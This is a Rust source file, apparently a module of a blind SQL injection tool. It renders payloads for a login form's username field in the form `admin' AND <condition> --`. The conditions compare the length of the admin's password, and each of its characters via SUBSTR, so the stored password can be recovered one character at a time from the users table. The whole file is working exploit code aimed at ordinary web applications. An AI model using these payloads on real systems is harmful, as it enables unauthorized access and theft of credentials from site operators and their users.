//! Injection payloads for the login form's username field

use crate::oracle::Condition;

/// The `admin' AND <condition> --` scaffold and the row it interrogates
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InjectionTemplate {
    pub username: String,
    pub table: String,
    pub column: String,
}

impl Default for InjectionTemplate {
    fn default() -> Self {
        Self {
            username: "admin".to_string(),
            table: "users".to_string(),
            column: "password".to_string(),
        }
    }
}

impl InjectionTemplate {
    pub fn new(username: &str, table: &str, column: &str) -> Self {
        Self {
            username: username.to_string(),
            table: table.to_string(),
            column: column.to_string(),
        }
    }

    /// Subquery selecting the target value
    fn select_value(&self) -> String {
        format!(
            "SELECT {} FROM {} WHERE username='{}'",
            self.column, self.table, self.username
        )
    }

    fn condition_sql(&self, condition: &Condition) -> String {
        match condition {
            Condition::LengthEquals(n) => format!(
                "(SELECT LENGTH({}) FROM {} WHERE username='{}')={}",
                self.column, self.table, self.username, n
            ),
            Condition::CharAt {
                position,
                candidate,
                quoting,
            } => format!(
                "SUBSTR(({}), {}, 1)='{}'",
                self.select_value(),
                position,
                quoting.literal(*candidate)
            ),
        }
    }

    /// Full value for the username field
    pub fn render(&self, condition: &Condition) -> String {
        format!("{}' AND {} --", self.username, self.condition_sql(condition))
    }
}
